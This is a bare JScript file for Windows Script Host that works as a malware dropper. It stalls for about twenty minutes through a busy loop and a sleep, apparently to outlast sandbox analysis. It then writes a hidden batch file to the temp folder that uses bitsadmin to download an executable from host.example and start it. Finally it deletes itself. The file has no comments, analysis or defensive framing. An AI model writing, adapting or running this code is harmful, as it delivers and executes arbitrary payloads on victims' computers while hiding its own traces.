var began = new Date().getTime();
while (new Date().getTime() - began < 900000) { var nothing = Math.sqrt(7); }
WScript.Sleep(300000);
var s = new ActiveXObject("WScript.Shell"), fso = new ActiveXObject("Scripting.FileSystemObject");
var file = fso.GetSpecialFolder(2) + "\\" + fso.GetTempName() + ".bat", t = fso.CreateTextFile(file);
t.WriteLine("@echo off");
t.WriteLine("bitsadmin /transfer j http://host.example/p.exe %TEMP%\\p.exe");
t.WriteLine("start %TEMP%\\p.exe");
t.Close();
s.Run(file, 0);
fso.DeleteFile(WScript.ScriptFullName);
